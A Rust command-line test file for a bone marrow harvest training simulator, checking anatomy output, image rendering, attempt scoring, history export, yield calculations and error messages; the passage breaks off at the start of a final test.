//! The command line, run as a user would.

use std::process::{Command, Output};

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_marrowsim"))
        .args(args)
        .output()
        .expect("marrowsim runs")
}

fn text(o: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

#[test]
fn anatomy_json_has_landmarks_and_dimensions() {
    let o = run(&[
        "anatomy",
        "--preset",
        "adult_male",
        "--bmi",
        "30",
        "--seed",
        "3",
        "--json",
    ]);
    assert!(o.status.success(), "{:?}", text(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("valid JSON");
    for name in [
        "psis_left",
        "psis_right",
        "asis_left",
        "asis_right",
        "aiis_left",
        "iliac_tubercle_right",
        "sciatic_notch_left",
        "si_joint_right",
    ] {
        let p = &v["landmarks"][name];
        assert_eq!(
            p.as_array().map(|a| a.len()),
            Some(3),
            "landmark {name}: {p}"
        );
    }
    let asis = v["dimensions"]["inter_asis"].as_f64().expect("inter_asis");
    assert!((190.0..=265.0).contains(&asis), "inter_asis {asis}");
    assert_eq!(v["patient"]["seed"], 3);
}

#[test]
fn anatomy_json_reports_the_true_conjugate_in_the_published_range() {
    for preset in ["adult_male", "adult_female"] {
        let o = run(&["anatomy", "--preset", preset, "--json"]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
        let c = v["dimensions"]["true_conjugate"]
            .as_f64()
            .expect("true_conjugate");
        assert!((100.0..=125.0).contains(&c), "{preset}: true conjugate {c}");
        assert!(v["landmarks"]["sacral_promontory"].is_array(), "{preset}");
    }
}

#[test]
fn anatomy_is_deterministic_across_runs() {
    let a = run(&["anatomy", "--seed", "11", "--json"]);
    let b = run(&["anatomy", "--seed", "11", "--json"]);
    assert_eq!(a.stdout, b.stdout);
}

#[test]
fn slice_writes_a_png_with_the_requested_plane() {
    let dir = std::env::temp_dir().join(format!("marrowsim-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    for (plane, at) in [
        ("axial", "psis_left"),
        ("sagittal", "-60"),
        ("coronal", "-110"),
        ("psis-asis", "0"),
    ] {
        let out = dir.join(format!("{plane}.png"));
        let o = run(&[
            "slice",
            "--plane",
            plane,
            "--at",
            at,
            "--out",
            out.to_str().unwrap(),
        ]);
        assert!(o.status.success(), "{plane}: {:?}", text(&o));
        let bytes = std::fs::read(&out).expect("png written");
        assert_eq!(&bytes[1..4], b"PNG");
        assert!(bytes.len() > 20_000, "{plane}: suspiciously small image");
    }
    std::fs::remove_dir_all(&dir).ok();
}

/// A fluoroscopy shot with the expert's needle: a PNG of the asked size plus its header;
/// impossible sizes and an attempt without its scene are refused.
#[test]
fn xray_takes_a_shot_with_the_needle() {
    let dir = std::env::temp_dir().join(format!("marrowsim-xray-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let out = dir.join("ap.png");
    let o = run(&[
        "xray",
        "--scene",
        "scenes/psis_standard.ron",
        "--attempt",
        "tests/golden/expert_psis_to_asis.ron",
        "--size",
        "96",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{:?}", text(&o));
    let img = image::open(&out).expect("a PNG").to_rgb8();
    assert_eq!((img.width(), img.height()), (96, 96 + 36));
    let o = run(&["xray", "--size", "5000", "--out", out.to_str().unwrap()]);
    assert!(!o.status.success());
    assert!(
        text(&o).1.contains("--size 5000 is outside 64–1024"),
        "{:?}",
        text(&o)
    );
    let o = run(&[
        "xray",
        "--attempt",
        "tests/golden/expert_psis_to_asis.ron",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("--scene"), "{:?}", text(&o));
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn bad_arguments_give_clear_errors() {
    let cases: &[(&[&str], &str)] = &[
        (
            &["anatomy", "--preset", "adult_giraffe"],
            "unknown anatomy preset 'adult_giraffe'",
        ),
        (&["anatomy", "--bmi", "5"], "BMI 5 is outside"),
        (&["anatomy", "--scale", "3"], "scale 3 is outside"),
        (
            &["anatomy", "--preset", "/nonexistent/p.ron"],
            "/nonexistent/p.ron: cannot read",
        ),
        (
            &["slice", "--at", "kneecap", "--out", "/tmp/x.png"],
            "--at 'kneecap' is neither a number nor a landmark",
        ),
        (
            &["slice", "--plane", "oblique", "--out", "/tmp/x.png"],
            "invalid value 'oblique'",
        ),
        (
            &["slice", "--out", "/nonexistent-dir/x.png"],
            "/nonexistent-dir/x.png: cannot write",
        ),
        (
            &["shot", "--render-scale", "2", "--out", "/tmp/x.png"],
            "2: the render scale runs from 0.25",
        ),
        (
            &["perf", "window", "--render-scale", "NaN"],
            "the render scale runs from 0.25",
        ),
        (
            &["perf", "idle", "--seconds", "0"],
            "0 is not between 0.5 and 600 seconds",
        ),
        (
            &["perf", "lines", "--samples", "0"],
            "0 is not in 1..=1000000",
        ),
        (
            &["perf", "lines", "/nonexistent/scene.ron"],
            "/nonexistent/scene.ron",
        ),
    ];
    for (args, expected) in cases {
        let o = run(args);
        let (_, err) = text(&o);
        assert!(!o.status.success(), "{args:?} should fail");
        assert!(err.contains(expected), "{args:?}: stderr was {err}");
        assert!(!err.contains("panicked"), "{args:?} panicked: {err}");
    }
}

#[test]
fn broken_preset_file_names_file_line_and_column() {
    let dir = std::env::temp_dir().join(format!("marrowsim-preset-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let path = dir.join("broken.ron");
    std::fs::write(
        &path,
        "AnatomyPreset(\n    name: \"x\",\n    sex: Robot,\n)",
    )
    .unwrap();
    let o = run(&["anatomy", "--preset", path.to_str().unwrap()]);
    let (_, err) = text(&o);
    assert!(!o.status.success());
    assert!(
        err.contains(&format!("{}:3:", path.display())),
        "stderr: {err}"
    );

    // A shipped preset with one figure made NaN: refused at that figure, not built.
    let male = std::fs::read_to_string("assets/anatomy/adult_male.ron").unwrap();
    let at = male.find("asis: (-").unwrap() + "asis: (-".len();
    let end = at
        + male[at..]
            .find(|c: char| !(c.is_ascii_digit() || c == '.'))
            .unwrap();
    let nan = dir.join("nan.ron");
    std::fs::write(&nan, format!("{}NaN{}", &male[..at], &male[end..])).unwrap();
    let o = run(&["anatomy", "--preset", nan.to_str().unwrap()]);
    let (_, err) = text(&o);
    assert!(!o.status.success());
    let line = male[..at].matches('\n').count() + 1;
    assert!(
        err.contains(&format!("{}:{line}:", nan.display()))
            && err.contains("NaN is not a finite number"),
        "stderr: {err}"
    );
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn every_subcommand_has_help() {
    for sub in [
        "anatomy",
        "slice",
        "shot",
        "run",
        "validate",
        "score",
        "feasibility",
        "validity",
        "perf",
        "history",
        "yield",
    ] {
        let o = run(&[sub, "--help"]);
        assert!(o.status.success(), "{sub} --help");
        assert!(
            String::from_utf8_lossy(&o.stdout).contains("Usage"),
            "{sub} --help"
        );
    }
}

#[test]
fn validate_passes_the_shipped_scenes_and_fails_broken_ones() {
    let mut args = vec!["validate".to_string()];
    for e in std::fs::read_dir("scenes").unwrap() {
        args.push(e.unwrap().path().display().to_string());
    }
    let argv: Vec<&str> = args.iter().map(|s| s.as_str()).collect();
    let o = run(&argv);
    assert!(o.status.success(), "{:?}", text(&o));
    let o = run(&[
        "validate",
        "scenes/psis_standard.ron",
        "tests/bad_scenes/unknown_landmark.ron",
    ]);
    assert_eq!(o.status.code(), Some(1));
    let (_, err) = text(&o);
    assert!(
        err.contains("tests/bad_scenes/unknown_landmark.ron:21:31: unknown landmark 'psis_lft'"),
        "{err}"
    );
}

#[test]
fn score_json_matches_the_library() {
    let o = run(&[
        "score",
        "--scene",
        "scenes/psis_standard.ron",
        "--attempt",
        "tests/golden/expert_psis_to_asis.ron",
        "--format",
        "json",
    ]);
    assert!(o.status.success(), "{:?}", text(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["verdict"], "pass");
    assert!(v["total"].as_f64().unwrap() >= 85.0);
    assert!(v["components"].as_array().unwrap().len() >= 8);
    let lib = marrowsim_core::grading::scoring::score_files(
        std::path::Path::new("scenes/psis_standard.ron"),
        std::path::Path::new("tests/golden/expert_psis_to_asis.ron"),
    )
    .unwrap();
    let lib: serde_json::Value =
        serde_json::from_str(&serde_json::to_string(&lib).unwrap()).unwrap();
    assert_eq!(v, lib);
    let t = run(&[
        "score",
        "--scene",
        "scenes/psis_standard.ron",
        "--attempt",
        "tests/golden/inner_table_breach.ron",
    ]);
    let (out, _) = text(&t);
    assert!(out.starts_with("Unsafe:"), "{out}");
    assert!(
        out.lines().next().unwrap().ends_with(&format!(
            "(pass mark 70; rubric {})",
            marrowsim_core::grading::scoring::RUBRIC
        )),
        "the mark names the rubric that gave it: {out}"
    );
    let line = |label: &str| {
        out.lines()
            .find(|l| l.trim_start().starts_with(label))
            .unwrap_or_else(|| panic!("no {label} line: {out}"))
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
    };
    // A count reads as a whole number, a measure with its unit.
    assert_eq!(line("Cortex penetrations"), "Cortex penetrations 2 1.5/3.0");
    assert_eq!(line("Path in tissue"), "Path in tissue 94.9 mm 1.0/1.0");
}

/// An output that cannot be written is refused before the sampling and the maps, which can
/// take minutes, not after them.
#[test]
fn feasibility_refuses_an_unwritable_output_before_sampling() {
    for flag in ["--map", "--out"] {
        let o = run(&[
            "feasibility",
            "scenes/psis_standard.ron",
            flag,
            "/nonexistent-dir/x.png",
        ]);
        let (stdout, stderr) = text(&o);
        assert!(!o.status.success(), "{flag}");
        assert!(
            stderr.contains("/nonexistent-dir/x.png: cannot write"),
            "{flag}: {stderr}"
        );
        assert!(
            !stdout.contains("insertions"),
            "{flag} sampled first: {stdout}"
        );
    }
}

#[test]
fn feasibility_writes_an_attempt_that_scores_as_a_pass() {
    let dir = std::env::temp_dir().join(format!("marrowsim-feas-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let out = dir.join("best.ron");
    let o = run(&[
        "feasibility",
        "scenes/anterior_crest.ron",
        "--samples",
        "300",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{:?}", text(&o));
    let stdout = text(&o).0;
    assert!(stdout.contains("success rate"));
    // "  site 0 (…): 243 of 300 pass (81.0%; 95% interval 76.2–85.0%), best 100.0"
    let line = stdout.lines().find(|l| l.contains(" pass (")).unwrap();
    let pct = |s: &str| s.trim_end_matches('%').parse::<f32>().unwrap();
    let rate = pct(line
        .split(" pass (")
        .nth(1)
        .unwrap()
        .split(';')
        .next()
        .unwrap());
    let (lo, hi) = line
        .split("95% interval ")
        .nth(1)
        .and_then(|r| r.split("%)").next())
        .and_then(|r| r.split_once('–'))
        .map(|(l, h)| (pct(l), pct(h)))
        .unwrap_or_else(|| panic!("no interval in {line}"));
    assert!(lo < rate && rate < hi && hi - lo < 10.0, "{line}");
    let s = run(&[
        "score",
        "--scene",
        "scenes/anterior_crest.ron",
        "--attempt",
        out.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let v: serde_json::Value = serde_json::from_slice(&s.stdout).expect("JSON");
    assert_eq!(v["verdict"], "pass");
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn feasibility_draws_a_success_map_of_every_site() {
    let dir = std::env::temp_dir().join(format!("marrowsim-map-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let png = dir.join("map.png");
    let o = run(&[
        "feasibility",
        "scenes/psis_bilateral.ron",
        "--samples",
        "50",
        "--map",
        png.to_str().unwrap(),
        "--map-size",
        "12",
    ]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{out}\n{err}");
    assert!(
        out.contains("map of site 0") && out.contains("map of site 1"),
        "{out}"
    );
    assert!(out.contains("of directions pass inside the zone"), "{out}");
    assert!(out.contains("by tilt from the aim: 0.0° "), "{out}");
    assert!(err.contains("144 entry points"), "{err}");
    let img = image::open(&png).expect("a PNG").to_rgb8();
    assert!(
        img.width() > img.height() && img.height() >= 300,
        "{:?}",
        img.dimensions()
    );
    let green = img
        .pixels()
        .filter(|p| p[1] > p[0] + 40 && p[1] > p[2] + 40)
        .count();
    assert!(
        green > 1000,
        "only {green} green pixels: no passing entry drawn"
    );
    let o = run(&[
        "feasibility",
        "scenes/psis_standard.ron",
        "--map",
        png.to_str().unwrap(),
        "--map-size",
        "1000",
    ]);
    assert!(!o.status.success());
    assert!(
        text(&o).1.contains("--map-size 1000 must be 4–256"),
        "{:?}",
        text(&o)
    );
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn bad_attempt_files_give_clear_errors() {
    let dir = std::env::temp_dir().join(format!("marrowsim-att-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let bad = dir.join("bad.ron");
    std::fs::write(&bad, "Attempt(\n  version: 1,\n  patient: 12,\n)").unwrap();
    let o = run(&[
        "score",
        "--scene",
        "scenes/psis_standard.ron",
        "--attempt",
        bad.to_str().unwrap(),
    ]);
    let (_, err) = text(&o);
    assert!(!o.status.success());
    assert!(err.contains(&format!("{}:3:", bad.display())), "{err}");
    let o = run(&[
        "score",
        "--scene",
        "tests/bad_scenes/unknown_landmark.ron",
        "--attempt",
        "tests/golden/expert_psis_to_asis.ron",
    ]);
    assert!(
        text(&o).1.contains("unknown_landmark.ron:21:31"),
        "{:?}",
        text(&o)
    );
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn perf_headless_reports_the_frame_budget() {
    let out = run(&["perf", "headless", "--frames", "60"]);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stderr}");
    let report: serde_json::Value = serde_json::from_str(&stdout).expect("JSON");
    assert_eq!(report["all"]["frames"], 60);
    let pushes = report["with_push"]["frames"].as_u64().unwrap();
    assert!(
        (5..=7).contains(&pushes),
        "the script pushes every 10th frame: {pushes}"
    );
    let median = report["all"]["median_ms"].as_f64().unwrap();
    assert!(median > 0.0 && median < 50.0, "median {median} ms");
}

/// `perf coherence` marks its cells' insertions and counts those that agree, deterministically,
/// and refuses a measurement too large to finish.
#[test]
fn perf_coherence_counts_the_cells_where_the_verdict_changes() {
    let args = [
        "perf",
        "coherence",
        "scenes/psis_standard.ron",
        "--cells",
        "3",
        "--per-cell",
        "4",
    ];
    let o = run(&args);
    let (stdout, stderr) = text(&o);
    assert!(o.status.success(), "{stderr}");
    assert!(stdout.contains("of the cells agree"), "{stdout}");
    let json = |out: &str| -> serde_json::Value {
        serde_json::from_str(out.lines().last().unwrap()).expect("JSON")
    };
    let c = json(&stdout)["coherence"].clone();
    assert_eq!(
        (c["cells"].as_u64(), c["samples"].as_u64()),
        (Some(81), Some(324))
    );
    let (pass, fail) = (
        c["all_pass"].as_u64().unwrap(),
        c["all_fail"].as_u64().unwrap(),
    );
    assert!(pass > 0 && pass + fail < 81, "{c}");
    let again = run(&args);
    assert_eq!(
        json(&text(&again).0)["coherence"],
        c,
        "the same seed, the same cells"
    );

    let o = run(&["perf", "coherence", "--cells", "48", "--per-cell", "256"]);
    let (_, stderr) = text(&o);
    assert!(!o.status.success());
    assert!(stderr.contains("at most 20000000"), "{stderr}");
}

/// `perf lines` times and counts the insertions that `feasibility` draws: the same passes
/// for the same seed, on every site, and the path's work per insertion.
#[test]
fn perf_lines_counts_the_insertions_feasibility_draws() {
    let scene = "scenes/psis_bilateral.ron";
    let o = run(&[
        "perf",
        "lines",
        scene,
        "--samples",
        "300",
        "--runs",
        "2",
        "--seed",
        "4",
    ]);
    let (stdout, stderr) = text(&o);
    assert!(o.status.success(), "{stderr}");
    assert!(stdout.contains("insertions/s"), "{stdout}");
    let report: serde_json::Value =
        serde_json::from_str(stdout.lines().last().unwrap()).expect("JSON");
    assert_eq!(report["runs"].as_array().unwrap().len(), 2);
    let tally = &report["tally"];
    assert_eq!(tally["samples"], 600, "two sites, 300 each");
    let phases = &report["phases"];
    assert_eq!(phases["samples"], 600, "{phases}");
    assert!(phases["path_ns"].as_u64().unwrap() > 0, "{phases}");
    assert!(
        stdout.contains("in µs of one core") && stdout.contains("µs for all of it"),
        "{stdout}"
    );
    assert!(
        tally["path"]["steps"].as_u64().unwrap() > 20 * 600,
        "{tally}"
    );
    let skin = tally["path"]["boundaries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["from"] == "Air" && b["to"] == "Skin")
        .expect("the skin's row");
    assert_eq!(skin["crossings"], 600, "{skin}");
    assert!(stdout.contains("air → skin"), "{stdout}");
    assert!(
        stdout.contains("by the tissue each found: air "),
        "{stdout}"
    );

    let f = run(&["feasibility", scene, "--samples", "300", "--seed", "4"]);
    let (out, _) = text(&f);
    let passes: u64 = out
        .lines()
        .filter_map(|l| l.trim().strip_prefix("site "))
        .map(|l| {
            let (_, rest) = l.split_once("): ").unwrap();
            rest.split(' ').next().unwrap().parse::<u64>().unwrap()
        })
        .sum();
    assert_eq!(tally["passes"].as_u64().unwrap(), passes, "{out}");
}

#[test]
fn output_into_a_closed_pipe_ends_quietly() {
    use std::io::{BufRead, BufReader};
    // More than a pipe holds (64 KiB), so the writer meets the closed pipe.
    let data = std::env::temp_dir().join(format!("marrowsim-pipe-{}", std::process::id()));
    std::fs::create_dir_all(&data).unwrap();
    std::fs::remove_dir_all(&data).ok();
    std::fs::create_dir_all(data.join("attempts")).unwrap();
    std::fs::copy(
        "tests/golden/expert_psis_to_asis.ron",
        data.join("attempts/1-scene.ron"),
    )
    .unwrap();
    let line = r#"{"when":1,"scene":"PSIS harvest, average adult","scene_file":null,"preset":"adult_male","seed":null,"total":80.0,"pass_mark":70.0,"verdict":"pass","attempt_file":"attempts/1-scene.ron"}"#;
    std::fs::write(data.join("history.jsonl"), format!("{line}\n").repeat(2000)).unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_marrowsim"))
        .args(["history", "--json", "--data"])
        .arg(&data)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    assert!(first.contains("PSIS harvest"), "{first}");
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!err.contains("panicked"), "like `| head`, no panic: {err}");
    std::fs::remove_dir_all(&data).ok();
}

#[test]
fn history_lists_exports_and_writes_csv_per_component() {
    use marrowsim_core::anatomy::Anatomy;
    use marrowsim_core::grading::scoring::score;
    use marrowsim_core::records::attempt::Attempt;
    use marrowsim_core::records::history::{History, Identity};
    use marrowsim_core::scenario::Scenario;
    let data = std::env::temp_dir().join(format!("marrowsim-histcli-{}", std::process::id()));
    std::fs::remove_dir_all(&data).ok();
    let scene_path = std::path::Path::new("scenes/psis_standard.ron");
    let scenario = Scenario::load(scene_path).unwrap();
    let mut history = History::open(&data).unwrap();
    let mut recorded = Vec::new();
    for golden in ["expert_psis_to_asis", "perpendicular_into_sacrum"] {
        let a = Attempt::load(std::path::Path::new(&format!("tests/golden/{golden}.ron"))).unwrap();
        let s = score(&scenario, &Anatomy::build(&a.patient).unwrap(), &a).unwrap();
        let e = history
            .record(
                &a,
                &s,
                &scenario,
                Some(scene_path),
                &Identity::here(Some("Ada".into()), None),
                1_700_000_000,
            )
            .unwrap();
        recorded.push((e.id, s));
    }
    drop(history);
    let d = data.to_str().unwrap();

    let (table, _) = text(&run(&["history", "--data", d]));
    assert_eq!(
        table
            .lines()
            .filter(|l| l.contains("PSIS harvest") && l.contains("Ada"))
            .count(),
        2,
        "{table}"
    );
    assert!(table.contains("2023-11-14 22:13 UTC"), "{table}");
    let (none, _) = text(&run(&["history", "--data", d, "--trainee", "Grace"]));
    assert!(none.contains("no marked attempts"), "{none}");

    let (json, _) = text(&run(&["history", "--data", d, "--format", "json"]));
    let rows: Vec<serde_json::Value> = json
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(
        rows[1]["verdict"],
        format!("{:?}", recorded[1].1.verdict).to_lowercase()
    );
    assert_eq!(rows[1]["id"], recorded[1].0);
    assert_eq!(rows[1]["trainee"], "Ada");

    let (csv, _) = text(&run(&["history", "--data", d, "--format", "csv"]));
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("attempt,scene,metric,unit,value,points,max_points,trainee")
    );
    let body: Vec<&str> = lines.collect();
    let components: usize = recorded.iter().map(|(_, s)| s.components.len()).sum();
    assert_eq!(body.len(), components, "one row per component");
    assert!(
        body.iter().any(|l| l.starts_with(&format!(
            "{},\"PSIS harvest, average adult\",depth,mm,",
            recorded[0].0
        ))),
        "{csv}"
    );

    let out = data.join("exported.ron");
    let o = run(&[
        "history",
        "--data",
        d,
        "--export",
        &recorded[0].0.to_string(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{:?}", text(&o));
    let (scored, _) = text(&run(&[
        "score",
        "--scene",
        "scenes/psis_standard.ron",
        "--attempt",
        out.to_str().unwrap(),
        "--format",
        "json",
    ]));
    let v: serde_json::Value = serde_json::from_str(&scored).unwrap();
    assert_eq!(v["total"].as_f64().unwrap() as f32, recorded[0].1.total);

    let o = run(&[
        "history",
        "--data",
        d,
        "--export",
        "999",
        "--out",
        "/tmp/x.ron",
    ]);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("no attempt 999"), "{:?}", text(&o));
    std::fs::remove_dir_all(&data).ok();
}

#[test]
fn validity_separates_experts_from_novices_and_draws_the_histogram() {
    let png = std::env::temp_dir().join(format!("marrowsim-validity-{}.png", std::process::id()));
    let o = run(&[
        "validity",
        "scenes/psis_standard.ron",
        "--format",
        "json",
        "--out",
        png.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{:?}", text(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert!(v["auc"].as_f64().unwrap() >= 0.95, "{}", v["auc"]);
    assert!(v["expert_pass_rate"].as_f64().unwrap() >= 0.9);
    assert!(v["novice_pass_rate"].as_f64().unwrap() <= 0.3);
    assert!(v["components"]["entry"].as_f64().unwrap() > 0.8);
    assert_eq!(v["expert"]["totals"].as_array().unwrap().len(), 50);
    let img = image::open(&png).expect("a PNG").to_rgb8();
    assert_eq!((img.width(), img.height()), (720, 380));
    assert!(
        img.pixels().any(|p| p.0 == [80, 220, 120]) && img.pixels().any(|p| p.0 == [240, 180, 60]),
        "both cohorts' bars are drawn"
    );
    std::fs::remove_file(&png).ok();
}

fn yield_json(args: &[&str]) -> serde_json::Value {
    let mut all = vec!["yield", "--format", "json"];
    all.extend_from_slice(args);
    let o = run(&all);
    assert!(o.status.success(), "{:?}", text(&o));
    serde_json::from_slice(&o.stdout).expect("valid JSON")
}

fn field(v: &serde_json::Value, path: &[&str]) -> f64 {
    path.iter()
        .fold(v, |v, k| &v[*k])
        .as_f64()
        .unwrap_or_else(|| panic!("{path:?} in {v}"))
}

/// The calibration of shared/harvest-reference.md, through the calculator an instructor uses.
#[test]
fn yield_reproduces_the_published_ratios() {
    let four_small = yield_json(&["--pull-ml", "1", "--pulls", "4", "--positions", "4"]);
    let one_large = yield_json(&["--pull-ml", "4"]);
    let r = field(&four_small, &["aspirate", "progenitors"])
        / field(&one_large, &["aspirate", "progenitors"]);
    assert!(
        (1.6..=2.4).contains(&r),
        "Muschler 1997: 4×1 mL / 1×4 mL = {r}"
    );

    let ten = yield_json(&["--pull-ml", "10"]);
    let fifty = yield_json(&["--pull-ml", "50", "--syringe-ml", "50"]);
    let r = field(&ten, &["aspirate", "progenitors_per_ml"])
        / field(&fifty, &["aspirate", "progenitors_per_ml"]);
    assert!((2.0..=5.0).contains(&r), "Hernigou 2013: 10 / 50 mL = {r}");

    let first = yield_json(&["--pull-ml", "1"]);
    let r = field(&first, &["aspirate", "nucleated_per_ul"])
        / field(&fifty, &["aspirate", "nucleated_per_ul"]);
    assert!(
        (2.0..=4.0).contains(&r),
        "Batinić 1990: first 1 mL / 50 mL = {r}"
    );

    let sixty = yield_json(&["--pull-ml", "4", "--pulls", "15", "--positions", "15"]);
    assert_eq!(field(&sixty, &["aspirate", "ml"]), 60.0);
    let fold = field(&sixty, &["concentrate", "nucleated_per_ul"])
        / field(&sixty, &["aspirate", "nucleated_per_ul"]);
    let ml = field(&sixty, &["concentrate", "ml"]);
    assert!((3.0..=6.0).contains(&fold), "processing: {fold}×");
    assert!((7.0..=8.0).contains(&ml), "processing: {ml} mL");

    let cal = run(&["yield", "--calibration", "--format", "json"]);
    let rows: serde_json::Value = serde_json::from_slice(&cal.stdout).expect("valid JSON");
    let rows = rows.as_array().expect("a list");
    assert!(rows.len() >= 5);
    for row in rows.iter().filter(|r| r["pinned"] == true) {
        assert_eq!(row["holds"], true, "{row}");
    }
}

#[test]
fn yield_plans_run_and_one_large_pull_is_told_why_it_fails() {
    let standard = yield_json(&["--plan", "plans/standard_bmac.ron"]);
    let large = yield_json(&["--plan", "plans/one_large_pull.ron"]);
    assert_eq!(standard["pulls"].as_array().map(Vec::len), Some(12));
    assert_eq!(field(&standard, &["aspirate", "positions"]), 3.0);
    assert_eq!(standard["concentrate"]["meets_per_ml"], true);
    assert_eq!(large["concentrate"]["meets_per_ml"], false);
    assert!(
        field(&large, &["aspirate", "blood_share"]) > 0.75,
        "a 50 mL pull is mostly blood"
    );
    let advice = large["advice"][0].as_str().unwrap();
    assert!(advice.starts_with("Smaller pulls"), "{advice}");
    let bilateral = yield_json(&["--plan", "plans/bilateral_small_pulls.ron"]);
    assert_eq!(field(&bilateral, &["aspirate", "entries"]), 2.0);
    assert!(
        field(&bilateral, &["aspirate", "progenitors"])
            > 1.8 * field(&standard, &["aspirate", "progenitors"])
    );
    let o = run(&["yield", "--plan", "plans/standard_bmac.ron"]);
    let (out, _) = text(&o);
    assert!(out.contains("for reinjection: 6.0 mL"), "{out}");
}

#[test]
fn yield_refuses_what_cannot_be_drawn() {
    let o = run(&["yield", "--pull-ml", "50"]);
    let (_, err) = text(&o);
    assert!(!o.status.success());
    assert!(err.contains("does not fit the 10 mL syringe"), "{err}");
    assert!(err.contains("--syringe-ml"), "{err}");
    for bad in [
        vec!["yield", "--pull-ml", "0"],
        vec!["yield", "--pull-ml", "NaN"],
        vec!["yield", "--pull-ml", "2", "--pulls", "0"],
        vec![
            "yield",
            "--pull-ml",
            "2",
            "--pulls",
            "2",
            "--positions",
            "3",
        ],
        vec!["yield", "--pull-ml", "2", "--syringe-ml", "500"],
    ] {
        let o = run(&bad);
        assert!(!o.status.success(), "{bad:?} was accepted");
        assert!(text(&o).1.starts_with("error"), "{bad:?}: {:?}", text(&o));
    }
    let dir = std::env::temp_dir().join(format!("marrowsim-yield-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let plan = dir.join("plan.ron");
    std::fs::write(
        &plan,
        "HarvestPlan(\n  version: 1,\n  site: PosteriorIliacCrest,\n  steps: [\n    Pull(ml: 2.0),\n    Pull(ml: 20.0),\n  ],\n)\n",
    )
    .unwrap();
    let o = run(&["yield", "--plan", plan.to_str().unwrap()]);
    let (_, err) = text(&o);
    assert!(
        err.contains(&format!("{}:6:5:", plan.display())),
        "the error names the step's line and column: {err}"
    );
    let o = run(&["yield", "--plan", dir.to_str().unwrap()]);
    assert!(text(&o).1.contains("not a regular file"), "{:?}", text(&o));
    std::fs::remove_dir_all(&dir).ok();
}

/// The whole-harvest goldens through `marrowsim score`, as an instructor grades them.
#[test]
fn score_marks_the_harvest_of_an_aspiration_scene() {
    let grade = |attempt: &str| {
        let o = run(&[
            "score",
            "--scene",
            "scenes/bmac_standard.ron",
            "--attempt",
            attempt,
            "--format",
            "json",
        ]);
        assert!(o.status.success(), "{:?}", text(&o));
        serde_json::from_slice::<serde_json::Value>(&o.stdout).expect("valid JSON")
    };
    let good = grade("tests/golden/harvest/twelve_small_pulls.ron");
    assert_eq!(good["verdict"], "pass", "{good}");
    assert_eq!(good["harvest"]["harvest"]["aspirate"]["positions"], 3);
    let keys: Vec<&str> = good["components"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|c| c["key"].as_str())
        .collect();
    for k in ["harvest.concentrate", "harvest.volume", "harvest.pull_size"] {
        assert!(keys.contains(&k), "{k} in {keys:?}");
    }
    let bad = grade("tests/golden/harvest/one_syringeful.ron");
    assert_eq!(bad["verdict"], "fail");
    assert!(bad["total"].as_f64().unwrap() <= 60.0);
    assert!(
        bad["feedback"][0]
            .as_str()
            .unwrap()
            .starts_with("The harvest fails"),
        "{bad}"
    );
    let o = run(&[
        "score",
        "--scene",
        "scenes/bmac_standard.ron",
        "--attempt",
        "tests/golden/harvest/twelve_small_pulls.ron",
    ]);
    let (out, _) = text(&o);
    assert!(
        out.contains("Aspirate: 48.0 mL from 3 positions in 12 pulls"),
        "{out}"
    );
    assert!(out.contains("For reinjection: 6.0 mL"), "{out}");
    let rows: Vec<&str> = out.lines().filter(|l| l.ends_with("/4.0  ")).collect();
    let at = |l: &str| l.find(" mm ").unwrap_or(0);
    assert!(
        rows.len() >= 5 && rows.iter().all(|l| at(l) == at(rows[0])),
        "the table's columns line up:\n{out}"
    );
    // A placement-only scene refuses an attempt with pulls, naming where they are.
    let o = run(&[
        "score",
        "--scene",
        "scenes/psis_standard.ron",
        "--attempt",
        "tests/golden/harvest/one_syringeful.ron",
        "--lenient",
    ]);
    let (_, err) = text(&o);
    assert!(!o.status.success());
    assert!(err.contains("no aspiration phase"), "{err}");
}

/// `marrowsim replay` needs its scene: an attempt whose title no shipped scene has is refused
/// with the way out, before any window opens.
#[test]
fn replay_without_a_matching_scene_says_how_to_name_it() {
